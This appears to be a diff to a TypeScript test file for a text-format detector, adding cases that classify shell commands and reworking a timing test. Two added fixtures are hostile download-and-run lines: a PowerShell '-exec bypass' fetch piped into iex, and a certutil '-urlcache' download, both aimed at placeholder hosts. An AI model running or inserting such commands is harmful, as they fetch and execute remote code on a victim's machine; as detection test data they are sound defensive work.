@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { detect, detectFormat, otherLook } from '../../src/formats/detect';
 import { FORMATS } from '../../src/formats/registry';
+import { expectLinear } from '../support/linear';
 
 const told = (text: string, path = ''): string => {
   const { format, other } = detect(text, path);
@@ -107,6 +108,11 @@ describe('a text may be nothing of ours', () => {
     ['https://example.com/a\nhttps://example.com/b', 'text'],
     ['1.2.3.4\n5.6.7.8', 'text'],
     ['import os\nfrom x import y\nprint("a")', 'a program'],
+    [
+      'powershell -exec bypass -c "iwr(\'http://a.test/b\')|iex"\n\nset "R=C:\\T" && cmd /c a.exe /lockscreenurl:https://b.test/c /eventName:d',
+      'commands of a shell',
+    ],
+    ['C:\\>certutil.exe -urlcache -f https://a.test/b c:d', 'commands of a shell'],
     ['Get-Process | Where-Object { $_.Name -eq "x" } | Select-Object Name', 'text'],
     ['cat a.txt | grep foo | sort | uniq -c', 'text'],
     ['C:\\Windows\\System32\\cmd.exe', 'text'],
@@ -143,9 +149,6 @@ describe('what is told goes before what is guessed', () => {
 // Each once took hours: blanks and brackets could be shared out among a pattern's parts in as many ways as there are.
 it('what a text looks like is told in time, whatever it holds', { retry: 2 }, () => {
   for (const unit of ['()', '// a\n', '\n', ' ', 'a-', 'a.', '\n ', '(', '"\\', '| '])
-    for (const before of ['a', 'T\n', 'from ', 'search a=b ', 'title: a\n']) {
-      const start = performance.now();
-      detect(before + unit.repeat(30_000 / unit.length), '');
-      expect(performance.now() - start, JSON.stringify(before + unit)).toBeLessThan(5_000);
-    }
+    for (const before of ['a', 'T\n', 'from ', 'search a=b ', 'title: a\n'])
+      expectLinear(JSON.stringify(before + unit), (length) => detect(before + unit.repeat(length / unit.length), ''), 4_000);
 });
